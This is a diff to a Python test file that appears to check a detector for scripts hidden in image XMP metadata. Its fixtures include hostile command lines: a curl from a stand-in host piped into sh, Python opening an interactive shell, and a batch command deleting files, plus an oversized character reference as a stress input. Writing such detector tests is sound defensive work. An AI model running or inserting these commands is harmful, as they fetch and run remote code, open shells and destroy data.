@@ -407,11 +407,13 @@ def test_finds_scripts_in_properties_of_xmp_and_no_words_about_them(fired: Fired
         "sh": "#!/bin/sh\ncurl -s http://a.example/x.sh | sh\n",
         "py": "import os, socket\nos.system('/bin/sh -i')\n",
         "bat": "@echo off\r\ndel /q C:\\x\r\n",
+        "indented": "\n    import os, socket\n    os.system('/bin/sh -i')\n",
     }
     words = {
         "caption": "A slide that says import os and then os.system('ls') in red.",
         "prompt": "masterpiece, (best quality:1.2)\nNegative prompt: blurry\nSteps: 20, Sampler: Euler",
         "history": '[{"action": "import os; os.system(1)"}]',
+        "number": f"a number\n&#{'1' * 5000};",
     }
 
     def packet(value: str) -> bytes:
